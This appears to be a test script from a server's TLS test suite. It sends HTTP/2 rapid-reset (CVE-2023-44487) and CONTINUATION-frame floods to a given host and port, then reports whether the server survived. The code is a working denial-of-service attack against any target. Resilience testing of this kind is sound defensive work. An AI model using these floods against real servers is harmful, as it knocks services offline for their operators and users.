#!/usr/bin/env python3
"""HTTP/2 abuse against a TLS listener (ALPN h2), for the TLS tests.

usage: h2_abuse.py HOST PORT rapid-reset|continuation

rapid-reset: opens streams and resets them at once (CVE-2023-44487),
  5000 times in batches of 100 frames per write.
continuation: one HEADERS frame without END_HEADERS, then up to 8 MiB of
  CONTINUATION frames (CVE-2024-27316 style).

Prints one line: "goaway" if the server sent GOAWAY, "closed" if it closed
or reset the connection, "survived" if it took everything; then the number
of units sent.
"""
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(host, port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=10)
    sock = ctx.wrap_socket(raw, server_hostname="localhost")
    if sock.selected_alpn_protocol() != "h2":
        raise SystemExit("server did not negotiate h2")
    return sock


def drain(sock, conn=None, timeout=5.0):
    """Reads until EOF/timeout; returns "goaway", "closed" or None."""
    sock.settimeout(timeout)
    saw_goaway = False
    buffer = b""
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return "goaway" if saw_goaway else "closed"
            if conn is not None:
                try:
                    events = conn.receive_data(data)
                except Exception:
                    continue
                if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                    saw_goaway = True
                continue
            # Raw frames: 3-byte length, 1-byte type (7 = GOAWAY), flags, id.
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                saw_goaway |= buffer[3] == 7
                buffer = buffer[9 + length:]
    except socket.timeout:
        return "goaway" if saw_goaway else None
    except (ConnectionError, ssl.SSLError, OSError):
        return "goaway" if saw_goaway else "closed"


def rapid_reset(host, port):
    sock = connect(host, port)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/"), (":scheme", "https"), (":authority", "localhost")]
    sent = 0
    try:
        for _ in range(50):
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid)
                sent += 1
            sock.sendall(conn.data_to_send())
    except Exception:
        pass
    return drain(sock, conn) or "survived", sent


def continuation(host, port):
    sock = connect(host, port)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    encoder = hpack.Encoder()
    first = HeadersFrame(1)
    first.flags.add("END_STREAM")
    first.data = encoder.encode(
        [(":method", "GET"), (":path", "/"), (":scheme", "https"), (":authority", "localhost")]
    )
    sock.sendall(first.serialize())
    sent = 0
    block = encoder.encode([("x-flood", "a" * 8000)])
    try:
        for i in range(1024):
            frame = ContinuationFrame(1)
            frame.data = block
            sock.sendall(frame.serialize())
            sent += 1
    except (ConnectionError, ssl.SSLError, OSError):
        return "closed", sent
    return drain(sock) or "survived", sent


def main():
    host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    result, sent = {"rapid-reset": rapid_reset, "continuation": continuation}[mode](host, port)
    print(result, sent)


if __name__ == "__main__":
    main()
